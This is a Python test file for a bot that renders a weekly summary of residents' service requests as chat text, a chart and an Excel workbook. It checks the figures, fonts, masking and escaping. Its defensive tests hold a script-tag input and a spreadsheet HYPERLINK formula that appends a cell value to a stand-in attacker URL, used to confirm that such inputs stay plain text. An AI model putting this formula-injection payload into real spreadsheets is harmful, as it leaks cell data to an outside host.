"""The summary as chat text, PNG chart and Excel workbook, opened back and checked."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from matplotlib import font_manager
from matplotlib.ft2font import FT2Font
from matplotlib.image import imread
from openpyxl import load_workbook

from bot.summary_render import (
    cjk_font_family,
    cjk_font_path,
    render_chart,
    render_text,
    render_workbook,
)
from bot.texts import summary as t
from nlp.categories import category_name
from storage.db import Database, upgrade
from storage.summary import RawRequest, WeeklySummary, week_requests, weekly_summary
from tests.storage.summary_data import NOW, TZ, WEEK, build

TAG = re.compile(r"</?(b|i|u|s|code|pre|a)( [^>]*)?>")


@pytest.fixture(scope="module")
def data(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[WeeklySummary, list[RawRequest]]]:
    """The fixed data set on SQLite (the numbers are checked on both backends in storage)."""
    path: Path = tmp_path_factory.mktemp("render") / "render.db"
    db = Database(f"sqlite:///{path}")
    upgrade(db.engine)
    with db.session() as s:
        build(s)
    with db.session() as s:
        summary = weekly_summary(s, week=WEEK, tz=TZ, now=NOW)
        raw = week_requests(s, week=WEEK, tz=TZ)
    db.dispose()
    yield summary, raw


@pytest.fixture(scope="module")
def empty(tmp_path_factory: pytest.TempPathFactory) -> WeeklySummary:
    path: Path = tmp_path_factory.mktemp("empty") / "empty.db"
    db = Database(f"sqlite:///{path}")
    upgrade(db.engine)
    with db.session() as s:
        summary = weekly_summary(s, week=WEEK, tz=TZ, now=NOW)
    db.dispose()
    return summary


# --- text -------------------------------------------------------------------------------------


def test_text_holds_the_headline_numbers(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
    text = render_text(data[0], category_name)
    assert "2026-W47" in text and "11月16日—11月22日" in text
    assert "本周新需求 <b>5</b> 件（较上周 ↑2，+66.7%），涉及居民 <b>7</b> 人" in text
    assert "· 设施维修 2件 4人 持平" in text
    assert "· 玉林社区 3栋 2件/4人" in text
    assert "<b>4</b>人" in text  # the elevator cluster
    assert "电梯" in text
    assert "共 5 件：待签收 4，办理中 1，超时 <b>3</b>" in text
    assert "签收中位 3.0小时（P90 39.0小时）" in text
    # Issue 12: every rate with its counts (storage.figures), "—" below 5 cases; the list is
    # ranked by the lower bound of 按时办结率. X: ratings 5 and 4 (both 4-5 stars).
    assert "1. X：签收2 办结2 响应40%（2/5） 按时—（2/2） 满意—（2/2） 4.5分 重开1" in text
    assert "2. Y：签收1 办结1 响应—（0/3） 按时—（1/2） 满意—（0/1） 3.0分" in text
    assert "<b>服务指标</b> 响应率 40%（2/5）；按时办结率 —（3/4）；解决率 —（2/3）" in text
    assert "满意率 —（2/3）（均 4.0 星）；回访率 —（3/3）；退单率 —（0/3）" in text
    # No contract at all in this data set: every need of the week is a coverage gap.
    assert "<b>合同未覆盖</b> 玉林社区·设施维修 2件/4人；" in text
    assert "另 2 项见表格「覆盖缺口」" in text
    assert "「我也遇到了」1 次" in text  # one press; D's merged request is not a press
    assert "居民更正 1/7（14%）" in text


def test_text_fits_one_phone_screen(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
    text = render_text(data[0], category_name)
    assert len(text) < 1500
    assert len(text.splitlines()) <= 32


def test_text_is_valid_html_and_escapes_what_people_wrote(
    data: tuple[WeeklySummary, list[RawRequest]],
) -> None:
    from dataclasses import replace

    summary = data[0]
    cluster = replace(summary.clusters[0], excerpt="<script>&", community="<b>坏</b>")
    hostile = replace(summary, clusters=(cluster,))
    text = render_text(hostile, category_name)
    assert "&lt;script&gt;&amp;" in text and "&lt;b&gt;坏&lt;/b&gt;" in text
    leftover = TAG.sub("", text)
    assert "<" not in leftover and ">" not in leftover


def test_text_of_an_empty_week(empty: WeeklySummary) -> None:
    text = render_text(empty, category_name)
    assert t.EMPTY_WEEK in text
    assert "共 0 件" in text
    assert t.SECTION_CATEGORIES not in text and t.SECTION_ORGANISATIONS not in text


def test_current_week_says_so_far(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
    from dataclasses import replace

    partial = replace(data[0], complete=False, as_of="2026-11-19T15:30:00+08:00")
    assert "，截至11月19日 15:30）" in render_text(partial, category_name)


# --- chart ------------------------------------------------------------------------------------


def _pixels(png: bytes) -> np.ndarray:
    return imread(io.BytesIO(png), format="png")


def test_chart_is_a_non_blank_png(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
    png = render_chart(data[0], category_name)
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    pixels = _pixels(png)
    height, width = pixels.shape[:2]
    assert (width, height) == (1650, 930)
    rgb = pixels[..., :3]
    not_white = (rgb < 0.97).any(axis=2).mean()
    assert 0.02 < not_white < 0.5
    # This week's bars are drawn in the chart's blue (#2b6cb0).
    blue = (abs(rgb - np.array([0x2B, 0x6C, 0xB0]) / 255).max(axis=2) < 0.02).sum()
    assert blue > 5000


def test_chart_font_has_the_chinese_glyphs(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
    """Every character the chart draws exists in the font: no tofu boxes."""
    summary = data[0]
    assert cjk_font_path().name == "NotoSansCJKsc-Regular.otf"
    family = cjk_font_family()
    found = font_manager.findfont(
        font_manager.FontProperties(family=family), fallback_to_default=False
    )
    assert Path(found).name == "NotoSansCJKsc-Regular.otf"
    font = FT2Font(found)
    labels = [t.CHART_TITLE, t.CHART_BARS_TITLE, t.CHART_TREND_TITLE, t.CHART_THIS_WEEK]
    labels += [category_name(c.category) for c in summary.categories]
    charmap = font.get_charmap()
    missing = {ch for label in labels for ch in label if ch.strip() and ord(ch) not in charmap}
    assert missing == set()


def test_chart_of_an_empty_week(empty: WeeklySummary) -> None:
    pixels = _pixels(render_chart(empty, category_name))
    assert pixels.shape[:2] == (930, 1650)
    assert (pixels[..., :3] < 0.97).any(axis=2).mean() > 0.005


def test_chart_folds_many_categories(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
    from dataclasses import replace

    base = data[0].categories[0]
    many = tuple(replace(base, category=f"c{i}", requests=i + 1) for i in range(12))
    png = render_chart(replace(data[0], categories=many), lambda code: code)
    assert _pixels(png).shape[:2] == (930, 1650)


# --- workbook ---------------------------------------------------------------------------------


def _book(data: tuple[WeeklySummary, list[RawRequest]]):  # type: ignore[no-untyped-def]
    raw = render_workbook(data[0], data[1], category_name)
    return load_workbook(io.BytesIO(raw))


def test_workbook_has_one_sheet_per_table(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
    book = _book(data)
    assert book.sheetnames == [
        t.SHEET_OVERVIEW,
        t.SHEET_CATEGORIES,
        t.SHEET_COMMUNITIES,
        t.SHEET_HOT,
        t.SHEET_CLUSTERS,
        t.SHEET_BACKLOG,
        t.SHEET_TIMES,
        t.SHEET_ORGANISATIONS,
        t.SHEET_KEYWORDS,
        t.SHEET_CLASSIFIER,
        t.SHEET_GAPS,
        t.SHEET_REQUESTS,
        t.SHEET_NOTES,
    ]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet["A1"].font.bold, sheet.title


def test_workbook_cells(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
    book = _book(data)
    overview = {
        row[0]: row[1] for row in book[t.SHEET_OVERVIEW].iter_rows(min_row=2, values_only=True)
    }
    assert overview[t.OVERVIEW_ROWS["needs"]] == 5
    assert overview[t.OVERVIEW_ROWS["residents"]] == 7
    assert overview[t.OVERVIEW_ROWS["change_pct"]] == pytest.approx(0.667)
    categories = list(book[t.SHEET_CATEGORIES].iter_rows(values_only=True))
    assert categories[0][:6] == t.CATEGORY_HEADERS
    assert categories[0][6:] == ("2026-W44", "2026-W45", "2026-W46", "2026-W47")
    assert categories[1] == ("设施维修", 2, 2, 0, 0.0, 4, 1, 1, 2, 2)
    orgs = list(book[t.SHEET_ORGANISATIONS].iter_rows(values_only=True))
    # Issue 12: ranked, and each rate as text with its counts (a share alone hid them).
    assert orgs[0][:6] == ("排名", "组织", "签收（件）", "办结（件）", "周末仍在办（件）", "响应率")
    assert orgs[1][:13] == (
        1,
        "X",
        2,
        2,
        0,
        "40%（2/5）",
        "—（2/2）",
        "—（2/3）",
        "—（2/2）",
        4.5,
        2,
        "—（3/3）",
        "—（0/2）",
    )
    assert overview[t.OVERVIEW_ROWS["response_rate"]] == "40%（2/5）"
    gaps = list(book[t.SHEET_GAPS].iter_rows(values_only=True))
    assert gaps[0] == t.GAP_HEADERS
    assert gaps[1] == ("玉林社区", "设施维修", 2, 4)
    assert sum(row[2] for row in gaps[1:]) == 5  # the week's five needs
    times = list(book[t.SHEET_TIMES].iter_rows(values_only=True))
    assert times[1] == (t.TIMES_ALL, 3, 3.0, 39.0, 3, 45.0, 46.6)


def test_workbook_requests_sheet_masks_and_localises(
    data: tuple[WeeklySummary, list[RawRequest]],
) -> None:
    sheet = _book(data)[t.SHEET_REQUESTS]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == t.REQUEST_HEADERS
    assert len(rows) == 1 + 7
    first = rows[1]
    assert first[1].strftime("%Y-%m-%d %H:%M") == "2026-11-16 09:00"  # local, not UTC
    assert (first[2], first[6], first[8]) == ("设施维修", "已办结", "X")
    texts = " ".join(str(row[-1]) for row in rows[1:])
    assert "13812345678" not in texts and "138****5678" in texts
    assert sheet.column_dimensions["R"].width == 60
    assert 8 <= sheet.column_dimensions["A"].width < 20


def test_workbook_of_an_empty_week(empty: WeeklySummary) -> None:
    book = load_workbook(io.BytesIO(render_workbook(empty, [], category_name)))
    assert book[t.SHEET_REQUESTS].max_row == 1
    notes = [row[0] for row in book[t.SHEET_NOTES].iter_rows(min_row=2, values_only=True)]
    assert any("Asia/Shanghai" in str(line) for line in notes)


# --- what residents wrote, in the workbook ------------------------------------------------------


def _hostile(
    data: tuple[WeeklySummary, list[RawRequest]], **fields: object
) -> tuple[WeeklySummary, list[RawRequest]]:
    from dataclasses import replace

    summary, raw = data
    return summary, [replace(raw[0], **fields), *raw[1:]]  # type: ignore[arg-type]


def test_workbook_drops_control_characters(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
    """openpyxl refuses control characters: old rows may hold them; the workbook is made."""
    from dataclasses import replace

    summary, raw = _hostile(
        data, text="电梯\x07坏了\x1b[31m", community="玉林\x0b社区", building="3\x00栋"
    )
    cluster = replace(summary.clusters[0], excerpt="电梯\x1b坏了")
    community = replace(summary.communities[0], community="望江\x08社区")
    summary = replace(summary, clusters=(cluster,), communities=(community,))
    book = load_workbook(io.BytesIO(render_workbook(summary, raw, category_name)))
    first = [cell.value for cell in book[t.SHEET_REQUESTS][2]]
    assert (first[4], first[5], first[-1]) == ("玉林社区", "3栋", "电梯坏了[31m")
    assert book[t.SHEET_CLUSTERS]["E2"].value == "电梯坏了"
    assert book[t.SHEET_COMMUNITIES]["A2"].value == "望江社区"


def test_workbook_never_holds_a_formula(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
    """Texts that start like formulas (= + - @) are read back as the same plain text."""
    from dataclasses import replace

    link = '=HYPERLINK("http://evil.example/?q="&A1,"点这里")'
    summary, raw = _hostile(data, text=link, community="+玉林社区", building="-3栋")
    cluster = replace(summary.clusters[0], excerpt="=1+1", community="@SUM(A1)")
    summary = replace(summary, clusters=(cluster,))
    book = load_workbook(io.BytesIO(render_workbook(summary, raw, category_name)))
    sheet = book[t.SHEET_REQUESTS]
    text = sheet.cell(2, len(t.REQUEST_HEADERS))
    assert (text.value, text.data_type) == (link, "s")
    assert text.quotePrefix  # Excel keeps it text even when the cell is edited
    assert (sheet["E2"].value, sheet["F2"].value) == ("+玉林社区", "-3栋")
    assert book[t.SHEET_CLUSTERS]["E2"].value == "=1+1"
    formulas = [
        (ws.title, cell.coordinate)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []


# --- the trend ----------------------------------------------------------------------------------


def test_chart_totals_are_the_weeks_totals(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
    """Each week's total under its label is the week's, whatever categories are drawn."""
    from dataclasses import replace

    from matplotlib.figure import Figure

    from bot.summary_render.chart import _draw_trend

    summary = replace(data[0], trend_totals=(11, 12, 13, 14))
    ax = Figure().add_subplot()
    _draw_trend(ax, summary, category_name)
    labels = [label.get_text() for label in ax.get_xticklabels()]
    assert [label.splitlines()[-1] for label in labels] == [
        f"{t.CHART_TOTAL} {n}" for n in (11, 12, 13, 14)
    ]
    assert data[0].trend_totals == (1, 1, 3, 5)  # the fixture: r12; r11; r8-r10; W47's five


# --- honest figures (issue 12) ----------------------------------------------------------------


def test_rates_read_with_their_counts() -> None:
    from bot.summary_render.formatting import rate
    from storage.figures import Rate

    assert rate(Rate(8, 10)) == "80%（8/10）"
    assert rate(Rate(1, 2)) == "—（1/2）"  # below the minimum count: no share
    assert rate(Rate(0, 0)) == "—"


def test_notes_define_every_rate(data: tuple[WeeklySummary, list[RawRequest]]) -> None:
    book = _book(data)
    notes = " ".join(
        str(row[0]) for row in book[t.SHEET_NOTES].iter_rows(min_row=2, values_only=True)
    )
    for words in ("响应率 =", "按时办结率 =", "解决率 =", "满意率 =", "回访率 =", "退单率 ="):
        assert words in notes
    assert "覆盖缺口" in notes and "Wilson" in notes
    assert "5 个工作日" in notes and "不足 5 件" in notes  # the limits and minimum used
